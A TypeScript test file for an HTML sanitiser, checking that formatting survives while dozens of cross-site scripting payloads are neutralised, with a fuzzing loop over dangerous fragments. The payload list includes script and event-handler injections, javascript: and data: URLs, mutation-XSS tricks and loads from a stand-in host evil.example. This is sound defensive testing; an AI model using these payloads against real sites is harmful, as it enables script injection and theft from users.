import { describe, expect, test } from 'vitest';
import { courseStepFixtures } from '~/resolvers/academy/academy.fixtures.ts';
import { knowledgeBaseArticleFixtures } from '~/resolvers/knowledgeBase/knowledgeBase.fixtures.ts';
import { mailFixtures } from '~/resolvers/mail/mail.fixtures.ts';
import { cleanHtml } from './html.ts';
import { between, pick, randomFrom } from './random.ts';

/** All that cleaned HTML is made of: text, and elements whose attributes stand in quotes and hold no sign of a tag. */
const element = /<\/?([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*)(?: \/)?>/g;

const decoded = (text: string) => text.replaceAll('&amp;', '&').replaceAll('&quot;', '"');

/** What is in the HTML that must not be: empty when there is nothing. */
function dangers(html: string): string[] {
  const found: string[] = html.replace(element, '').match(/[<>]/g) ?? [];
  for (const [tag, name, attributes = ''] of html.matchAll(element)) {
    if (
      /^(script|style|svg|math|iframe|object|embed|form|input|base|link|meta|template|noscript)$/.test(
        name ?? '',
      )
    ) {
      found.push(tag);
    }
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      const isAddress = attribute === 'href' || attribute === 'src';
      if (/^(on|style|class|id|srcset|xmlns|formaction)/.test(attribute)) found.push(tag);
      if (
        isAddress &&
        !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w.-]+$|data:image\/(png|jpeg|gif|webp)[;,])/i.test(
          decoded(value),
        )
      ) {
        found.push(tag);
      }
    }
  }
  return found;
}

describe('HTML that somebody wrote', () => {
  test('keeps what gives it its form', async () => {
    const html =
      '<h2>Night shift</h2><p dir="rtl">Two <b>gates</b>, see <a href="https://a.example/?a=1&amp;b=2">the plan</a>.</p>' +
      '<table><tr><td colspan="2">1</td></tr></table><ol start="3"><li>Lock</li></ol>' +
      '<img src="data:image/png;base64,AAAA" alt="Gate" width="20" /><a href="mailto:nadia@a.example">Nadia</a>';
    expect(await cleanHtml(html)).toBe(html);
  });

  test('keeps words as they were written where there is no element', async () => {
    const text = 'Tom & Jerry > "all" &lt;b&gt;';
    expect(await cleanHtml(text)).toBe(text);
    expect(await cleanHtml('3 < 5 & 7')).toBe('3 &lt; 5 &amp; 7');
  });

  test('keeps the words of elements that it does not keep', async () => {
    expect(
      await cleanHtml('<form action="/x"><marquee>Meet</marquee> <font color="red">at six</font></form>'),
    ).toBe('Meet at six');
  });

  test('leaves the texts of the demo as they are', async () => {
    const [steps, articles] = [await courseStepFixtures(), await knowledgeBaseArticleFixtures()];
    const texts = [...steps, ...articles].map(({ content }) => content);
    texts.push(...mailFixtures(Date.now()).map(({ message }) => message));
    expect(texts.length).toBeGreaterThan(100);
    expect(await Promise.all(texts.map(cleanHtml))).toEqual(texts);
  });

  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script/x>alert(1)</script\n>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1) on\x00click=alert(1)>x</p>',
    '<body onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="java<!-- -->script:alert(1)">x</a>',
    '<a href=" vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html,x">',
    '<img src="x.png" srcset="javascript:alert(1) 1x">',
    '<img src="//evil.example/x.png">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style><img src=x onerror=alert(1)></style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
    '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
    '<table><caption><svg><style><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p id=location name=cookie>clobbers</p>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href="https://a.example" target="_blank" ping="https://evil.example">x</a>',
    '<p\u2028onclick=alert(1)>x</p>',
    '\ud800<script>alert(1)</script>',
  ])('runs and loads nothing of %j', async (attack) => {
    const clean = await cleanHtml(attack);
    expect(dangers(clean)).toEqual([]);
    expect(await cleanHtml(clean)).toBe(clean);
  });

  test('has nothing left to clean after it was cleaned, whatever it is made of', async () => {
    const parts = [
      ...[
        '<',
        '>',
        '</',
        '/>',
        '"',
        "'",
        '`',
        '=',
        ' ',
        '\n',
        '\0',
        '&',
        '&lt;',
        '&#60;',
        '&colon;',
        '<!--',
        '-->',
        ']]>',
      ],
      ...[
        '<![CDATA[',
        '<?',
        'a',
        'b',
        'p',
        'img',
        'svg',
        'math',
        'style',
        'script',
        'mtext',
        'mglyph',
        'annotation-xml',
      ],
      ...[
        'table',
        'td',
        'select',
        'option',
        'title',
        'textarea',
        'noscript',
        'template',
        'xmp',
        'plaintext',
        'iframe',
      ],
      ...[
        'href',
        'src',
        'onerror',
        'onclick',
        'style',
        'xlink:href',
        'srcset',
        'javascript:',
        'java\tscript:',
        'data:',
      ],
      ...[
        'data:image/svg+xml,',
        'https://',
        '//',
        'alert(1)',
        '<script>',
        '</script>',
        '<img src=x onerror=alert(1)>',
      ],
    ];
    for (let seed = 0; seed < 1_500; seed += 1) {
      const random = randomFrom(`soup ${seed}`);
      const soup = Array.from({ length: between(random, 1, 40) }, () => pick(random, parts)).join('');
      const clean = await cleanHtml(soup);
      expect(soup.includes('<') ? dangers(clean) : [], soup).toEqual([]);
      expect(await cleanHtml(clean), soup).toBe(clean);
    }
  });
});
